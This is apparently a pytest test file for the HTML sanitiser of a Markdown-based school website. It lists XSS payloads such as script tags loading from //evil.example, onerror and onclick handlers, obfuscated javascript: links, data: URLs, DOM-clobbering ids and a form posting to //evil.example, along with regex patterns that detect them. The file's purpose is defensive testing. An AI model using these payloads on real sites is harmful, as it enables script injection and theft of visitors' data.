"""The second layer: dangerous HTML stops a page whatever the first one missed, and nothing else does."""

import re

import pytest
import slips
from conftest import TODAY
from fuzz import ROOT, extensions
from markdown import Markdown

from mentoring import body, pages, pipeline, sanitiser
from mentoring.pages import Edition
from mentoring.source import SourceError, decode, parse

HEAVY = {
    "brackets-50k",
    "html-open-20k",
    "blockquote-deep",
    "list-deep",
    "line-5mb",
    "table-5k",
    "redos-betterem",
    "redos-caret",
}
"""Bodies no converter is given: they are refused for their weight, not for what they run."""


def converted(text: str) -> str:
    """What a browser would get if nobody had looked at a body: fit to stand on a page, links as they are."""
    ready = body.relinked(body.fit(text), lambda address, raw: address)
    return Markdown(extensions=extensions("attr_list")).convert(ready)


def bodies(*kinds: str) -> dict[str, str]:
    found = {}
    for name, slip in slips.rows().items():
        if slip.kind in kinds and name not in HEAVY:
            try:
                content = slip.files[slip.path]
                found[name] = parse(decode(content, slip.path), slip.path).body
            except (KeyError, SourceError):
                continue
    return found


DANGEROUS = [
    *("attr-list-id-clobber", "attr-list-onerror-img", "base-href", "data-html-link", "details-ontoggle"),
    *("id-clobber-html", "iframe-srcdoc", "img-onerror", "js-link-control", "js-refdef", "link-stylesheet"),
    *("math-mxss", "meta-refresh", "object-embed", "script", "style-attr-overlay", "style-tag", "link-drive"),
]


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_dangerous_body_is_refused_with_the_first_layer_off(name: str) -> None:
    made = converted(bodies("body")[name])

    assert sanitiser.unsafe(made)
    assert not sanitiser.unsafe(sanitiser.clean(made))


@pytest.mark.parametrize("name", sorted(bodies("body", "inject", "frontmatter", "encoding")))
def test_what_is_left_after_cleaning_runs_nothing(name: str) -> None:
    """The page that is shown in preview beside the warning is harmless too."""
    made = sanitiser.clean(converted(bodies("body", "inject", "frontmatter", "encoding")[name]))

    assert not sanitiser.unsafe(made)
    assert not re.search(r"<(?:script|iframe|meta|base|style|link|object|embed|form|math|svg)\b", made, re.I)
    assert not re.search(r"<[^>]*(?:\son\w+\s*=|javascript:|data:text)", made, re.I)


@pytest.mark.parametrize("name", sorted(bodies("valid", "values")))
def test_a_valid_body_is_never_refused(name: str) -> None:
    assert sanitiser.unsafe(converted(bodies("valid", "values")[name])) == ""


def test_no_page_of_the_example_site_is_refused() -> None:
    """Templates, macros and every text of the school."""
    loaded = pipeline.load(ROOT, today=TODAY)
    found = {}
    for page in pages.render(Edition(loaded.book.public)):
        markdown = Markdown(extensions=extensions("attr_list")).convert(page.markdown.partition("\n---\n")[2])
        if unsafe := sanitiser.unsafe(markdown):
            found[page.path] = unsafe

    assert found == {}


@pytest.mark.parametrize(
    "html",
    [
        '<p onclick="x()">а</p>',
        "<p><script>x()</script></p>",
        "<p><ScRiPt src=//evil.example></ScRiPt></p>",
        '<a href="java\nscript:x()">а</a>',
        '<a href="&#106;avascript:x()">а</a>',
        '<a href="data:text/html,x">а</a>',
        '<a href="vbscript:x">а</a>',
        '<img src="x" onerror=x()>',
        "<img src=x onerror=x()//",
        '<svg viewBox="0 0 1 1"><animate onbegin="x()"/></svg>',
        '<div style="position:fixed">а</div>',
        '<input type="image" src="x">',
        '<a id="__config">а</a>',
        '<a name="x" id="md-search">а</a>',
        "<!-- скрыто -->",
        "<![CDATA[x]]>",
        "<?php x ?>",
        '<form action="//evil.example"><input name="a"></form>',
        '<p title="a" title="b" onfocus=x()>а</p>',
    ],
)
def test_what_could_run_or_load_something_is_found(html: str) -> None:
    assert sanitiser.unsafe(html)
    assert not sanitiser.unsafe(sanitiser.clean(html))


@pytest.mark.parametrize(
    "html",
    [
        "<p>5 &gt; 3, a&lt;b, «С &amp; В»</p>",
        '<h2 id="itogi">Итоги</h2>',
        '<table><thead><tr><th align="right">а</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
        '<a href="../cases/most/#itogi">а</a>, <a href="mailto:school@example.org">а</a>, <a href="tel:+78435550100">а</a>',
        '<details class="note" open><summary>а</summary><p>б</p></details>',
        '<img alt="Мост" loading="lazy" src="../media/most.jpg">',
        '<input type="checkbox" checked disabled>',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
        "<p>а<br />б<br>в</p>",
    ],
)
def test_what_authors_and_templates_need_is_let_through(html: str) -> None:
    assert sanitiser.unsafe(html) == ""


def test_the_extension_refuses_the_page() -> None:
    """In an engine without our plugin nothing else stands between the text and the reader."""
    with pytest.raises(sanitiser.UnsafeError, match="публиковать нельзя"):
        Markdown(extensions=["mentoring.sanitiser"]).convert("<script>x()</script>")


def test_the_extension_may_report_and_clean() -> None:
    told: list[str] = []

    shown = Markdown(extensions=[sanitiser.SanitiserExtension(report=told.append)]).convert(
        "а <b onclick=x()>б</b>"
    )

    assert told
    assert shown == "<p>а <b>б</b></p>"
